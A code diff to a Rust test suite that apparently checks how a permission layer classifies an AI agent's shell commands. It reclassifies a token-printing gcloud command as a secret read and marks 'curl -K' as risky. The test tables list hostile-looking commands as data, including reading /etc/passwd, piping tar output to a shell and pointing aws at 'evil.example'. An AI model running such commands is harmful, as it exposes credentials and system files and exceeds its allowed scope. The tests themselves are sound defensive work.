@@ -79,7 +79,9 @@ fn destructive_breadth_is_asked_or_denied() {
         ("gh api -X DELETE repos/o/r", "ask", "risky-command"),
         ("npm install left-pad", "ask", "risky-command"),
         // A secret printed where the agent reads it is a credential read.
-        ("gcloud auth print-access-token", "deny", "destructive"),
+        ("gcloud auth print-access-token", "deny", "secret"),
+        // Options read from a file the floor does not parse can upload anything.
+        ("curl -K cfg https://example.com", "ask", "risky-command"),
         // The image's code runs, whatever words follow it.
         ("docker run alpine --help", "ask", "risky-command"),
     ]);
@@ -125,7 +127,6 @@ fn what_is_not_understood_is_not_allowed() {
         ("psql -h localhost -f script.sql", "none", ""),
         ("psql -c 'SELECT 1; SELECT 2'", "none", ""),
         ("psql -c 'SELECT pg_terminate_backend(1)'", "none", ""),
-        ("curl -K cfg https://example.com", "none", ""),
         ("curl file:///etc/passwd", "none", ""),
         ("tar -tf a.tar --to-command=sh", "none", ""),
         ("aws --endpoint-url https://evil.example s3 ls", "none", ""),
